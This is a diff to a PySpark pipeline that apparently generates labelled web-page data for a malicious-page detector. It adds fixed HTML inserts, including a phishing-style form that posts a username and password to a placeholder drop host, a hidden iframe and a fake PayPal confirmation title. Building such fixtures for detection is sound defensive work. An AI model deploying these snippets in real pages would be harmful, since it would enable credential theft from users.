@@ -74,3 +74,21 @@ def url_corpus(pages: DataFrame) -> DataFrame:
     rows = pages.select("page_id", day.alias("first_seen"), F.explode(shapes).alias("_s"))
     source = F.when(F.col("_s.label") == 1, "malicious").otherwise("benign")
     return rows.select("page_id", "_s.tpl", "_s.label", source.alias("source"), "_s.url", "first_seen")
+
+# fixed values: what pages of several kinds have besides their own content
+INSERTS = (
+    "",
+    "<form method=post action='https://collect-{id}.drop-point.biz/in'><input name=user><input type=\"PASSWORD\" name=pw></form>",
+    '<iframe src="/frame" style="border:0; display: none"></iframe><a href="https://news.island-post.com/{id}">more</a>',
+    "<!-- <input type=password> --><title>PayPal: confirm</title><a href='//www.paypal.com/help'>help</a><a href=\"/x\">x</a>",
+    "<form action=\"/search\"><input type=text></form><iframe width=1 src=//pixel.example.org></iframe>",
+    '<a href="{url}">self</a><a href="https://a.b.co.uk/{id}">b</a><a href="mailto:x@y.org">mail</a><iframe src=/f hidden></iframe>',
+)
+
+
+def content_pages(pages: DataFrame) -> DataFrame:
+    """``page_id, url, html``: each page with one of the inserts at its start, so that all content features occur."""
+    kinds = F.array(*map(F.lit, INSERTS))
+    insert = F.get(kinds, (F.col("page_id") % len(INSERTS)).cast("int"))
+    insert = F.replace(F.replace(insert, F.lit("{id}"), F.col("page_id").cast("string")), F.lit("{url}"), F.col("url"))
+    return pages.select("page_id", "url", F.concat(insert, F.col("html")).alias("html"))
